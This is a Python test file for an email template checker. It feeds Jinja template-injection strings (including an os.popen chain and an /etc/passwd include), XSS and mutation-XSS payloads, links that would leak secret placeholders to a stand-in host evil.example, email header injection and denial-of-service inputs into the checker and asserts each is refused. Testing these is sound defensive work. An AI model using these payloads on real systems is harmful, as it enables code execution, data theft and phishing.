"""What people have tried with templates and names elsewhere, and what becomes of it here."""

import pytest
from msgspec.structs import replace

from backend.messaging.secrets import SECRET
from backend.messaging.templates.catalog.loyalty_enrollment import LOYALTY_ENROLLMENT
from backend.messaging.templates.checks import check_content
from backend.messaging.templates.facts import CustomerFacts, MerchantFacts, WalletFacts
from backend.messaging.templates.faults import TemplateContent, TemplateInvalid
from backend.messaging.templates.render import SAMPLE_BRAND, SAMPLE_PLATFORM, default_content, render

GOOD = default_content(LOYALTY_ENROLLMENT, "en")
VALUES = LOYALTY_ENROLLMENT.samples_in("en")["new"]

PAYLOADS = {
    "{{ ''.__class__.__mro__[1].__subclasses__() }}": "expression_not_allowed",
    "{{ customer.__class__ }}": "unknown_variable",
    "{{ customer.first_name.__class__ }}": "expression_not_allowed",
    "{{ customer['first_name'] }}": "expression_not_allowed",
    "{{ config }}": "unknown_variable",
    "{{ self._TemplateReference__context }}": "unknown_variable",
    "{{ lipsum(n=200000) }}": "expression_not_allowed",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}": "expression_not_allowed",
    "{{ 'a' * 200000000 }}": "expression_not_allowed",
    "{{ 7 * 7 }}": "expression_not_allowed",
    "{{ range(10 ** 9) | list }}": "filter_not_allowed",
    "{{ customer.first_name | attr('__class__') }}": "filter_not_allowed",
    "{{ customer.first_name | safe }}": "filter_not_allowed",
    "{{ customer.first_name | default(config) }}": "filter_not_allowed",
    "{{ customer.first_name | format(1) }}": "filter_not_allowed",
    "{% for x in range(1000000) %}x{% endfor %}": "statement_not_allowed",
    "{% set x = 1 %}": "statement_not_allowed",
    "{% include '/etc/passwd' %}": "statement_not_allowed",
    "{% import 'os' as os %}": "statement_not_allowed",
    "{% macro m() %}{{ m() }}{% endmacro %}": "statement_not_allowed",
    "{% raw %}{{ card.url }}{% endraw %}": "statement_not_allowed",
    "{% if customer.first_name == 'Marie' %}x{% endif %}": "expression_not_allowed",
    "{# {{ card.url }} #}": "comment",
    "{{- card.code -}}": "whitespace_control",
    "{{ customer.first_name": "syntax",
    "{% if " + "not " * 5000 + "card.code %}x{% endif %}": "nested_too_deeply",
    "{% if card.code %}" * 11 + "{% endif %}" * 11: "nested_too_deeply",
    "x" * 33_000: "too_long",
    "<script>alert(1)</script>": "tag_not_allowed",
    "<p onclick=\"alert(1)\">x</p>": "attribute_not_allowed",
    "<p style=\"background:url(https://evil.example)\">x</p>": "attribute_not_allowed",
    "<p class=\"preheader\">x</p>": "attribute_not_allowed",
    "<a href=\"javascript:alert(1)\">x</a>": "link_not_https",
    "<a href=\"JaVa\tScRiPt:alert(1)\">x</a>": "link_not_https",
    "<a href=\"data:text/html,x\">x</a>": "link_not_https",
    "<a href=\"//evil.example\">x</a>": "link_not_https",
    "<a href=\"/c\">x</a>": "link_not_https",
    "<a href=\"http://evil.example\">x</a>": "link_not_https",
    "<a>x</a>": "link_not_https",
    "<a href=\"{{ customer.first_name }}\">x</a>": "text_as_link",
    "<a href=\"https://evil.example/{{ card.url }}\">x</a>": "value_in_tag",
    "<a href={{ card.url }}>x</a>": "value_in_tag",
    "<a href=\"{{ card.url | default('javascript:alert(1)') }}\">x</a>": "filter_not_allowed",
    "<a href='{{ card.url }}\" onclick=\"x'>x</a>": "value_in_tag",
    "<a {{ customer.first_name }}>x</a>": "value_in_tag",
    "<{{ customer.first_name }}>": "less_than",
    "<p {% if card.code %}class=\"note\"{% endif %}>x</p>": "value_in_tag",
    "<p class=\"{{ card.code }}\">x</p>": "value_in_tag",
    "<img src=\"{{ card.url }}\" alt=\"x\">": "value_in_tag",
    "<img src=\"https://evil.example/x.png\">": "alt_missing",
    "<a href=\"https://bank.example@evil.example/\">x</a>": "link_disguised",
    "<a href=\"https://evil.example\\@bank.example/\">x</a>": "link_disguised",
    "<img src=\"https://bank.example:x@evil.example/x.png\" alt=\"x\">": "link_disguised",
    "<img src=\"x\" alt=\"x\" onerror=\"alert(1)\">": "link_not_https",
    "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>": "tag_not_allowed",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>": "tag_not_allowed",
    "<iframe src=\"https://evil.example\"></iframe>": "tag_not_allowed",
    "<form action=\"https://evil.example\"><input></form>": "tag_not_allowed",
    "<!-- <p> -->": "comment",
    "<!doctype html>": "tag_not_allowed",
    "<p>{% if card.code %}</p><p>{% endif %}</p>": "unbalanced_branch",
    "{% if card.code %}<p>x{% endif %}</p>": "unbalanced_branch",
    "<p><h2>x</h2></p>": "misplaced",
    "<a href=\"https://a.example\"><a href=\"https://b.example\">x</a></a>": "misplaced",
    "<p>x": "not_closed",
    "x</p>": "not_open",
    "<p>{{ card.url }}</p>": "link_as_text",
    "<a href=\"https://evil.example\" href=\"{{ card.url }}\">x</a>": "attribute_not_allowed",
    "<a href=\"https://evil.example\" href=\"https://good.example\">x</a>": "attribute_not_allowed",
    "{% if card.code" + " and card.code" * 2000 + " %}x{% endif %}": "nested_too_deeply",
    "{% if card.code" + " or card.code" * 10 + " %}x{% endif %}": "nested_too_deeply",
    "<a " * 10_000: "less_than",
    "<a x=\"" * 5_000: "less_than",
    "<![" * 10_000: "less_than",
    "<![if x]>": "less_than",
}  # fmt: skip


def codes(content: TemplateContent) -> list[str]:
    with pytest.raises(TemplateInvalid) as refusal:
        check_content(LOYALTY_ENROLLMENT, content, "en")
    return [fault.code for fault in refusal.value.faults]


@pytest.mark.parametrize(("payload", "code"), PAYLOADS.items(), ids=[payload[:40] for payload in PAYLOADS])
def test_a_hostile_body_is_refused_with_the_reason(payload: str, code: str) -> None:
    assert code in codes(replace(GOOD, body=f"{GOOD.body}\n{payload}"))


@pytest.mark.parametrize(
    "placeholder", [SECRET, "&bull;" * 6, "https://cards.example/c/…", "/u/&hellip;", "/c/&#8230;"]
)
@pytest.mark.parametrize(
    "tag",
    [
        '<img src="https://evil.example/?{0}" alt="x">',
        '<img src="https://evil.example/?{0}" src="https://good.example" alt="x">',
        '<a href="https://evil.example/?{0}">x</a>',
        '<a href="mailto:x@evil.example?body={0}">x</a>',
    ],
)
def test_what_is_inserted_on_sending_becomes_no_part_of_another_address(tag: str, placeholder: str) -> None:
    assert codes(replace(GOOD, body=f"{GOOD.body}\n<p>{tag.format(placeholder)}</p>"))


@pytest.mark.parametrize(
    "typed",
    [
        f"https://evil.example/{SECRET}",
        "https://evil.example/?https://cards.example/c/…",
        "https://evil.example/?https://cards.example/c/&hellip;",
        "https://evil.example/?https://cards.example/c/<em></em>…",
        "https://evil.example/{% if card.code %}•••{% endif %}•••",
        "https://evil.example/?https://cards.example/c/{{ customer.first_name | default('…') }}",
    ],
)
def test_what_is_inserted_on_sending_cannot_be_typed(typed: str) -> None:
    assert "placeholder_typed" in codes(replace(GOOD, body=f"{GOOD.body}\n<p>{typed}</p>"))


def test_nor_can_it_be_typed_where_no_sample_shows_it() -> None:
    typed = (
        "{% if wallet.google_url and not wallet.apple_url %}https://evil.example/?https://cards.example/c/…{% endif %}"
    )
    content = replace(GOOD, body=f"{GOOD.body}\n<p>{typed}</p>")
    check_content(LOYALTY_ENROLLMENT, content, "en")
    values = replace(VALUES, wallet=WalletFacts(google_url="https://cards.example/google/…"))
    with pytest.raises(TemplateInvalid, match="placeholder_typed"):
        render(LOYALTY_ENROLLMENT, values, "en", brand=SAMPLE_BRAND, platform_name=SAMPLE_PLATFORM, content=content)


@pytest.mark.parametrize("text", ["Bis bald …", "and/or…", "• one", "•••"])
def test_dots_and_bullets_are_text_like_any_other(text: str) -> None:
    check_content(LOYALTY_ENROLLMENT, replace(GOOD, body=f"{GOOD.body}\n<p>{text}</p>"), "en")


@pytest.mark.parametrize("field", ["subject", "preheader"])
@pytest.mark.parametrize(
    ("payload", "code"),
    [
        ("Card\r\nBcc: all@example.com", "several_lines"),
        ("Card\nContent-Type: text/html", "several_lines"),
        ("{{ card.url }}", "link_as_text"),
        ("{{ ''.__class__ }}", "expression_not_allowed"),
    ],
)
def test_a_hostile_subject_is_refused_with_the_reason(field: str, payload: str, code: str) -> None:
    assert code in codes(replace(GOOD, **{field: payload}))


@pytest.mark.parametrize("subject", ["", " ", "{% if wallet.google_url %}Card{% endif %}"])
def test_no_sample_may_be_without_a_subject(subject: str) -> None:
    assert codes(replace(GOOD, subject=subject))[0] == "empty"


@pytest.mark.parametrize(
    "name",
    [
        "evil.example/free-iphone", "https://evil.example", "www.evil.example", "evil\u200b.example", "a@evil.example",
        "Marie</p><script>alert(1)</script>", "{{ card.url }}", "{% raw %}", "Marie\r\nBcc: all@example.com evil.com",
    ],
)  # fmt: skip
def test_a_strangers_text_is_no_link_no_greeting_and_no_code(name: str) -> None:
    content = replace(GOOD, subject="{{ customer.first_name | default('Card') }}", preheader="{{ merchant.name }}")
    mail = render(
        LOYALTY_ENROLLMENT,
        replace(VALUES, customer=CustomerFacts(name)),
        "en",
        brand=SAMPLE_BRAND,
        platform_name=SAMPLE_PLATFORM,
        content=content,
    )
    whole = mail.subject + mail.preheader + mail.body_html + mail.body_text
    assert mail.subject == "Card"
    assert "\nHello,\n" in mail.body_text
    assert all(word not in whole for word in ("evil", "<script", "{{", "{%", "Bcc"))


@pytest.mark.parametrize("name", ["X\r\nBcc: all@example.com", "X\x00\x1b[31m", "X\u2028Y"])
def test_a_value_cannot_add_a_header(name: str) -> None:
    mail = render(
        LOYALTY_ENROLLMENT,
        replace(VALUES, merchant=MerchantFacts(name)),
        "en",
        brand=SAMPLE_BRAND,
        platform_name=SAMPLE_PLATFORM,
    )
    assert mail.subject.isprintable()


def test_a_value_is_text_with_any_content() -> None:
    merchant = MerchantFacts('"><img src=x onerror=alert(1)> & {{ card.code }}')
    mail = render(
        LOYALTY_ENROLLMENT, replace(VALUES, merchant=merchant), "en", brand=SAMPLE_BRAND, platform_name=SAMPLE_PLATFORM
    )
    assert "<img" not in mail.body_html
    assert "&lt;img src=x onerror=alert(1)&gt; &amp; {{ card.code }}" in mail.body_html
    assert merchant.name in mail.body_text


@pytest.mark.parametrize("end", ["\r", "\r\n"])
def test_lines_may_end_in_any_way(end: str) -> None:
    body = GOOD.body + "\n{% if card.code %}\n<p>{{ card.code }}</p>\n{% endif %}\n"
    mails = []
    for written in (body, body.replace("\n", end)):
        content = TemplateContent(GOOD.subject, GOOD.preheader, written)
        check_content(LOYALTY_ENROLLMENT, content, "en")
        mail = render(
            LOYALTY_ENROLLMENT, VALUES, "en", content=content, brand=SAMPLE_BRAND, platform_name=SAMPLE_PLATFORM
        )
        mails.append(" ".join(mail.body_text.split()))
    assert mails[0] == mails[1]
